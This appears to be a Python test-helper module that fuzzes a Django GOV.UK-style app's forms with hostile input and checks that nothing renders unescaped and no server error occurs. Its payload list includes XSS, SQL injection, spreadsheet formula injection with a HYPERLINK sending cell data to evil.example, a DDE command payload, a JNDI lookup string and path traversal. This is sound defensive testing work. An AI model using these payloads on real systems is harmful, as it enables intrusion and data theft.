"""Hypothesis strategies for hostile input: text, dates, wrong types, missing fields, ids.

Used by tests/test_hostile_input.py. Nothing here touches the database.
"""

from __future__ import annotations

import re
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st
from hypothesis.configuration import set_hypothesis_home_dir

# database=None keeps examples out of .hypothesis/, but hypothesis also caches constants
# and unicode tables there: keep all of it out of the repository.
set_hypothesis_home_dir(Path(tempfile.gettempdir()) / "hypothesis-hostile-input")

# Reproducible in CI, and nothing written to .hypothesis/ in the repository.
HOSTILE = settings(
    max_examples=25,
    deadline=None,
    derandomize=True,
    database=None,
    # No shrinking: a server error stops the example at once, and the suite stays fast.
    phases=[Phase.explicit, Phase.reuse, Phase.generate],
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
HOSTILE_IMPORT = settings(HOSTILE, max_examples=30)

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
# What must never reach a page unescaped.
RAW_MARKERS = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")

SNIPPETS = (
    SCRIPT,
    IMG,
    "'; DROP TABLE placements_child; --",
    "1' OR '1'='1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "@SUM(1)",
    "\u202egnp.exe",  # right-to-left override
    "\u200f\u202bAbc\u202c",
    "a\x00b",  # NUL
    "\x01\x02\x07\x1b[31m",
    "\r\n\r\n",
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://x}",
    "../../etc/passwd",
    "𝕬\U0001f600 Zalgo z̷̢a̶l̵g̸o",
    "",
    " ",
)

CONTROL = st.characters(codec="utf-8", categories=["Cc", "Cf", "Zl", "Zp"])


def long_text(max_size: int = 100_000) -> st.SearchStrategy[str]:
    """Very long strings (up to max_size), some with a payload inside."""
    return st.builds(
        lambda n, piece: (piece or "A") * max(1, n // max(1, len(piece or "A"))),
        st.integers(min_value=min(201, max_size), max_value=max_size),
        st.sampled_from(("A", SCRIPT, "é", "\u202e", "x" * 7)),
    )


def hostile_text(max_long: int = 100_000) -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(SNIPPETS),
        st.text(max_size=60),
        st.text(alphabet=CONTROL, max_size=20),
        st.builds(lambda a, b: a + b, st.sampled_from(SNIPPETS), st.text(max_size=20)),
        long_text(max_long),
    )


DATE_PART = st.one_of(
    st.integers(min_value=-5, max_value=40).map(str),
    st.sampled_from(
        (
            "0",
            "00",
            "99999",
            "-1",
            "2026",
            "1",
            "9999",
            "10000",
            # (a year of 30 nines overflows: test_date_year_overflow covers it)
            "abc",
            "",
            " 3 ",
            "1e3",
            "٣",  # Arabic-Indic digit three
            "3.0",
            "0x10",
            "31",
            "29",
            SCRIPT,
        )
    ),
)


@st.composite
def hostile_date_parts(draw) -> tuple[str, str, str]:
    """(day, month, year) as typed into a GOV.UK date input."""
    kind = draw(st.integers(0, 3))
    if kind == 0:  # a real date, possibly far off
        year = draw(st.sampled_from(["1", "1900", "2025", "2026", "2100", "9999"]))
        return (str(draw(st.integers(1, 28))), str(draw(st.integers(1, 12))), year)
    return (draw(DATE_PART), draw(DATE_PART), draw(DATE_PART))


def hostile_date_text() -> st.SearchStrategy[str]:
    """A date as a CSV cell."""
    return st.one_of(
        hostile_date_parts().map(lambda p: "/".join(p)),
        hostile_date_parts().map(lambda p: f"{p[2]}-{p[1]}-{p[0]}"),
        st.sampled_from(("01/01/0000", "31/12/9999", "00/00/2020", "29/02/2023", "2026-13-01")),
        hostile_text(200),
    )


# --- Form specs ---------------------------------------------------------------------


@dataclass
class Field:
    """One form field and how to fuzz it.

    kind: "text", "date" (GOV.UK three-part), "choice" (valid values to mix in), "id"
    (a key of the world's id pools), "bool".
    """

    name: str
    kind: str = "text"
    choices: tuple[str, ...] = ()
    pool: str = ""


@dataclass
class FormSpec:
    name: str  # URL name
    persona: str  # fixture name of the user allowed to post (None: anonymous)
    url: str  # key of the world's URLs
    fields: list[Field] = field(default_factory=list)
    extra: dict = field(default_factory=dict)


def _wrong_type(draw, value_strategy):
    """A list where a scalar is expected (repeated keys), or an int as a string."""
    return draw(
        st.one_of(
            st.lists(value_strategy, min_size=2, max_size=3),
            st.integers(min_value=-(2**70), max_value=2**70).map(str),
        )
    )


@st.composite
def form_data(draw, spec: FormSpec, ids: dict[str, list[str]]) -> dict:
    """Fuzzed POST data for `spec`: some fields missing, some of the wrong type."""
    data: dict = {}
    for f in spec.fields:
        if draw(st.integers(0, 9)) == 0:  # missing
            continue
        if f.kind == "date":
            parts = draw(hostile_date_parts())
            for i, part in enumerate(parts):
                data[f"{f.name}_{i}"] = part
            if draw(st.integers(0, 12)) == 0:
                data[f.name] = draw(hostile_text(200))  # the un-split name
            continue
        if draw(st.integers(0, 9)) == 0:
            data[f.name] = _wrong_type(draw, hostile_text(200))
            continue
        if f.kind == "choice":
            data[f.name] = draw(st.one_of(st.sampled_from(f.choices), hostile_text(500)))
        elif f.kind == "id":
            data[f.name] = draw(st.sampled_from(ids[f.pool]))
        elif f.kind == "bool":
            data[f.name] = draw(st.sampled_from(["on", "true", "1", "", "no", SCRIPT]))
        else:
            data[f.name] = draw(hostile_text())
    data.update(spec.extra)
    return data


LINE = re.compile(r"line \d+")


def check_escaped(html: str, where: str) -> None:
    """No hostile marker rendered as markup."""
    for marker in RAW_MARKERS:
        assert marker not in html, f"{where}: {marker!r} rendered unescaped"


def post_once(
    user,
    url: str,
    data: dict,
    *,
    name: str,
    state: Callable[[], object],
    allowed: tuple[int, ...] = (200, 302),
    message: Callable[[int], bool] = lambda status: status == 200,
    followed: Callable[[int], bool] = lambda status: status < 500,
    saved: Callable[[object, object], None] | None = None,
) -> None:
    """Post ``data`` to ``url`` once as ``user`` (None: signed out), in a transaction rolled
    back afterwards: never a server error, and a status in ``allowed``. A redirect leads to
    a page that answers as ``followed`` allows, with nothing unescaped (``saved(before,
    after)`` checks what the post saved, by ``state()``); a refusal says "There is a
    problem" where ``message(status)``, shows nothing unescaped and saves nothing."""
    from django.db import transaction
    from django.test import Client

    client = Client()
    with transaction.atomic():
        if user is not None:
            client.force_login(user)
        before = state()
        response = client.post(url, data)
        status = response.status_code
        assert status < 500, f"{name}: {status}"
        assert status in allowed, f"{name}: unexpected {status}"
        if status == 302:
            page = client.get(response.url)
            assert followed(page.status_code), f"{name}: following to {response.url}"
            check_escaped(page.content.decode(), f"{name} -> {response.url}")
            if saved is not None:
                saved(before, state())
        else:
            html = response.content.decode()
            if message(status):
                assert "There is a problem" in html, f"{name}: refused without a message"
            check_escaped(html, name)
            assert state() == before, f"{name}: a refused post saved rows"
        transaction.set_rollback(True)


def post_spec_once(spec: FormSpec, world: dict, data: dict, *, state, today) -> None:
    """``post_once`` for a FormSpec of a world of ``users`` and ``urls`` (persona and URL
    name), on ``today``: a refusal shows the error summary; a redirect leads to a page."""
    import time_machine

    with time_machine.travel(today, tick=False):
        post_once(
            world["users"][spec.persona],
            world["urls"][spec.url],
            data,
            name=spec.name,
            state=state,
            message=lambda status: True,
            followed=lambda status: status == 200,
        )


def check_empty_post_refused(spec: FormSpec, world: dict, *, state) -> None:
    """An empty post to the form: the form again, its error beside a field, nothing saved."""
    from django.test import Client

    client = Client()
    client.force_login(world["users"][spec.persona])
    before = state()
    response = client.post(world["urls"][spec.url], {})
    assert response.status_code == 200
    html = response.content.decode()
    assert "There is a problem" in html and "govuk-error-message" in html
    assert state() == before
